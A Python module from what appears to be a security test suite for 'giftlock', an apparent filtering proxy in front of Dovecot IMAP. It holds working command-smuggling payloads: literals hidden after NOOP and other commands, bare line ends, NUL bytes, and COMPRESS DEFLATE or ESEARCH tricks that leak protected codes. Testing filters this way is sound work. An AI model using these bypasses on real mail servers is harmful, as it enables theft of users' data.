"""Class 1, command smuggling: bytes that giftlock lets through as part of
one harmless command and the server runs as another.

Dovecot ignores the arguments of NOOP, CHECK, CAPABILITY and their kin
without reading them, so a literal announced at the end of their line is
read as the next command. The payloads run that way: a sequence-number
FETCH of windows holding exactly a code (no context, and no UID for
giftlock to name the message by), a COMPRESS DEFLATE after which the
attacker inflates the stream itself, and an ESEARCH whose answer tells a
true code prefix from a made-up one. The wrappers: literals (`{N+}`,
`{N}`, `~{N+}`) after NOOP, CHECK, UNSELECT, CLOSE, CAPABILITY, NAMESPACE,
ENABLE, ID, STATUS, LIST, SELECT, FETCH, SEARCH, STORE, IDLE and DONE,
NOOP with garbage arguments, a literal after a complete command or in
place of a tag, two literals, bare LF and bare CR line ends, a NUL byte,
an over-long line.
"""

import re
import time

from .framework import Variant
from .payloads import esearch_line, search_targets, window_fetches

# How to get `inner` (whole command lines) run by the server. Each entry:
# name, the command text before the literal, literal kind, and whether it
# works against Dovecot directly (the control).
WRAPPERS = [
    ("noop-literal-plus", b"NOOP ", "plus", True),
    ("noop-literal-sync", b"NOOP ", "sync", True),
    ("noop-literal8", b"NOOP ", "literal8", True),
    ("noop-garbage-args", b'NOOP garbage "quoted" (list x) ', "plus", True),
    ("check-literal", b"CHECK ", "plus", True),
    ("capability-literal", b"CAPABILITY ", "plus", True),
    ("namespace-literal", b"NAMESPACE ", "plus", True),
    ("unselect-literal", b"UNSELECT ", "plus", True),
    ("close-literal", b"CLOSE ", "plus", True),
    ("expunge-literal", b"EXPUNGE ", "plus", True),
    ("idle-literal", b"IDLE ", "plus", False),
    ("enable-literal", b"ENABLE ", "plus", False),
    ("id-literal", b"ID NIL ", "plus", False),
    ("status-literal", b"STATUS INBOX (MESSAGES) ", "plus", False),
    ("list-literal", b'LIST "" "" ', "plus", False),
    ("select-extra-literal", b"SELECT INBOX ", "plus", False),
    ("fetch-extra-literal", b"FETCH 1 (FLAGS) ", "plus", False),
    ("search-extra-literal", b"SEARCH ALL ", "plus", False),
    ("store-extra-literal", b"STORE 1 +FLAGS.SILENT () ", "plus", False),
    ("logout-literal", b"LOGOUT ", "plus", False),
]

# Line-level tricks: name, builder(tag, inner) -> bytes, control.
TRICKS = [
    ("bare-lf-after-noop", lambda tag, inner: tag + b" NOOP\n" + inner, True),
    ("bare-cr-after-noop", lambda tag, inner: tag + b" NOOP\r" + inner, False),
    ("nul-before-literal", lambda tag, inner: tag + b" NOOP \x00{%d+}\r\n" % len(inner) + inner + b"\r\n", False),
    ("nul-in-line-then-lf", lambda tag, inner: tag + b" NOOP \x00\n" + inner, False),
    ("literal-after-complete-command", lambda tag, inner: tag + b" NOOP\r\n{%d+}\r\n" % len(inner) + inner + b"\r\n", True),
    ("literal-as-tag", lambda tag, inner: b"{%d+}\r\n" % len(inner) + inner + b"\r\n", True),
    ("literal-in-tag", lambda tag, inner: tag + b"{%d+}\r\n" % len(inner) + inner + b"\r\n", True),
    ("two-literals", lambda tag, inner: tag + b" NOOP {3+}\r\nabc {%d+}\r\n" % len(inner) + inner + b"\r\n", True),
    ("overlong-line-then-literal", lambda tag, inner: tag + b" NOOP " + b"x" * 70000 + b" {%d+}\r\n" % len(inner) + inner + b"\r\n", False),
    ("crlf-split-in-two-writes", None, True),
]

SELECT_AGAIN = b"s0 SELECT INBOX\r\n"


def needs_select(name):
    return name.startswith(("unselect", "close", "logout"))


def send_wrapped(conn, name, head, kind, inner):
    """Sends `inner` hidden behind one wrapper; returns after the server
    went quiet."""
    if needs_select(name):
        inner = SELECT_AGAIN + inner
    tag = conn.tag()
    n = len(inner)
    if kind == "plus":
        conn.send(tag + b" " + head + b"{%d+}\r\n" % n + inner + b"\r\n")
    elif kind == "literal8":
        conn.send(tag + b" " + head + b"~{%d+}\r\n" % n + inner + b"\r\n")
    else:
        conn.send(tag + b" " + head + b"{%d}\r\n" % n)
        # The server (or giftlock) answers the command at once: send the
        # literal anyway.
        conn.read_response(3)
        conn.send(inner + b"\r\n")
    if name.startswith("idle"):
        time.sleep(0.3)
        conn.send(b"DONE\r\n")
    return conn.drain(0.3, 15)


def send_trick(conn, name, build, inner):
    if build is None:
        # The literal's announcement and its bytes in separate writes,
        # the announcement's CRLF split too.
        tag = conn.tag()
        conn.send(tag + b" NOOP {%d+}\r" % len(inner))
        time.sleep(0.2)
        conn.send(b"\n")
        time.sleep(0.2)
        conn.send(inner + b"\r\n")
    else:
        conn.send(build(conn.tag(), inner))
    return conn.drain(0.3, 15)


def done_while_idling(conn, inner):
    tag = conn.tag()
    conn.send(tag + b" IDLE\r\n")
    conn.read_response(3)
    conn.send(b"DONE {%d+}\r\n" % len(inner) + inner + b"\r\n")
    return conn.drain(0.3, 15)


def compress_then_fetch(conn, send_inner, wrapper_ends_line=True):
    """Smuggles COMPRESS DEFLATE, then speaks deflate itself and fetches
    every message whole. When the wrapper ends the line after the
    smuggled bytes, the command goes without its own CRLF: the server
    inflates everything after that line, so nothing plain may follow."""
    send_inner(b"c1 COMPRESS DEFLATE" + (b"" if wrapper_ends_line else b"\r\n"))
    m = re.search(rb"c1 OK[^\n]*\n", bytes(conn.received))
    if not m:
        return
    conn.compress(after=m.group(0))
    conn.send(b"f1 UID FETCH 1:* (BODY.PEEK[])\r\n")
    conn.drain(1.0, 20)


def leak_variant(name, send):
    def fn(run):
        conn = run.session()
        send(conn, window_fetches(run.ctx))

    return fn


def oracle_variant(send):
    def fn(run, probes):
        out = []
        for p in probes:
            conn = run.session()
            answer = send(conn, esearch_line(b"x1".decode(), p))
            out.append(b"".join(answer))
        return out

    return fn


def variants():
    out = []
    for name, head, kind, control in WRAPPERS:

        def send(conn, inner, name=name, head=head, kind=kind):
            return send_wrapped(conn, name, head, kind, inner)

        out.append(Variant(f"{name}/fetch-window-by-seq", leak_variant(name, send), control=control))
        if name in ("noop-literal-plus", "noop-literal-sync", "check-literal", "capability-literal"):
            out.append(
                Variant(
                    f"{name}/compress-deflate",
                    lambda run, send=send: compress_then_fetch(run.session(), lambda inner: send(run.session(), inner)),
                    control=control,
                )
            )
            out.append(
                Variant(f"{name}/esearch", oracle_variant(send), kind="oracle", control=control, targets=search_targets)
            )
    for name, build, control in TRICKS:

        def send(conn, inner, name=name, build=build):
            return send_trick(conn, name, build, inner)

        out.append(Variant(f"{name}/fetch-window-by-seq", leak_variant(name, send), control=control))
        if name in ("bare-lf-after-noop", "literal-as-tag"):
            out.append(
                Variant(
                    f"{name}/compress-deflate",
                    lambda run, send=send, name=name: compress_then_fetch(
                        run.session(), lambda inner: send(run.session(), inner), name != "bare-lf-after-noop"
                    ),
                    control=control,
                )
            )
            out.append(
                Variant(f"{name}/esearch", oracle_variant(send), kind="oracle", control=control, targets=search_targets)
            )
    out.append(
        Variant(
            "done-with-literal-while-idling/fetch-window-by-seq",
            lambda run: done_while_idling(run.session(), window_fetches(run.ctx)),
            control=False,
        )
    )
    out.append(
        Variant(
            "noop-literal-plus/uid-fetch-window",
            lambda run: send_wrapped(run.session(), "noop", b"NOOP ", "plus", window_fetches(run.ctx, by_seq=False)),
        )
    )
    out.append(
        Variant(
            "noop-literal-plus/pipelined-inside-literal",
            lambda run: send_wrapped(
                run.session(),
                "noop",
                b"NOOP ",
                "plus",
                b"p1 NOOP\r\np2 CHECK\r\n" + window_fetches(run.ctx),
            ),
        )
    )
    return out
